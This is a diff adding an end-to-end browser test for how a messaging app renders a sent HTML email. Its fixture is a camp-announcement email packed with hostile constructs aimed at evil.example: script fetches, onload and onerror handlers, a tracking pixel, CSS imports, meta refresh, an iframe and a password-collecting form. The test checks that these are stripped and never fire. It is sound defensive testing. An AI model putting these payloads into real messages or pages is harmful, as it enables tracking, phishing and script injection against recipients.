@@ -26,7 +26,62 @@ async function sent(page, demo) {
   await api(page, demo, "post", "/v1/messages/events", { events });
 }
 
+const CAMP = `<body style="background:#eee"><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<style>@import "https://evil.example/import"; p { background: url(https://evil.example/style) }</style>
+<link rel="stylesheet" href="https://evil.example/link">
+<script>fetch("https://evil.example/script"); document.title = "ran"</script>
+<svg onload="parent.document.title='ran'"><image href="https://evil.example/svg"/></svg>
+<table width="600" background="https://evil.example/table" style="border:1px solid #ccc"><tr><td>
+<h1 style="color:#a40000">Camp starts on Monday</h1>
+<p style="background:url(https://evil.example/p)">Bring a <b>towel</b> and a bottle of water.</p>
+<img src="https://evil.example/pixel" width="1" height="1">
+<img src="https://evil.example/logo.png" alt="Logo" onerror="document.title='ran'">
+<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==" width="20" alt="Dot">
+<form action="https://evil.example/form"><input name="password"><button>Send</button></form>
+<iframe src="https://evil.example/frame"></iframe>
+<a href="https://gym.example/camp?from=mail">Choose a week</a>
+</td></tr></table>`;
+
 export default function define(world) {
+  for (const [how, options] of [
+    ["with script", {}],
+    ["without script", { script: false, colorScheme: "dark" }],
+  ]) {
+    check(world, `messages: as one was sent it asks nobody for anything, ${how}`, options,
+      async (page, visit) => {
+        await page.goto("/");
+        const to = { address: "lee@home.example" };
+        const message = { id: "e2e-html", channel: "email", to, html: CAMP };
+        const data = { messages: [{ ...message, subject: "Camp as sent" }] };
+        const { messages: [{ id }] } = await api(page, visit.demo, "post", "/v1/messages", data);
+        const asked = [];
+        page.on("request", (request) => asked.push(request.url()));
+        await page.goto(`/messages/${id}/text`);
+        assert.match(await page.locator(".message-text").innerText(), /Bring a towel/);
+        await page.locator(".message-sent > summary").click();
+        const frame = page.frameLocator(".message-sent > iframe");
+        await frame.getByText("Choose a week").waitFor();
+        assert.match(await frame.locator("footer").innerText(), /gym\.example\/camp\?from=mail/);
+        assert.equal(await frame.locator("a, form, input, iframe, script, svg, link").count(), 0);
+        assert.equal(await frame.locator("img").count(), 1, "the one that it holds");
+        assert.match(await frame.locator("td").innerText(), /Picture of .*evil\.example.*Logo/);
+        await frame.getByText("Choose a week").click();
+        for (const width of [320, 1920, 768]) {
+          await page.setViewportSize({ width, height: 900 });
+          await visit.assertFits();
+        }
+        assert.equal(await page.title().then((title) => title.includes("ran")), false);
+        const foreign = asked.filter((url) => !url.startsWith(visit.demo.url));
+        assert.deepEqual(foreign, []);
+        assert.equal(asked.filter((url) => url.includes("/as-sent")).length, 1);
+        if (options.script === false) return;
+        // axe would talk to the frame, which has no script to answer.
+        await page.locator("iframe[title='As it was sent']").evaluate((one) => one.remove());
+        await visit.assertAccessible();
+      });
+  }
+
   for (const script of [true, false]) {
     const how = script ? "with script" : "without script";
     check(world, `messages: from a log to what one says, ${how}`, { script },
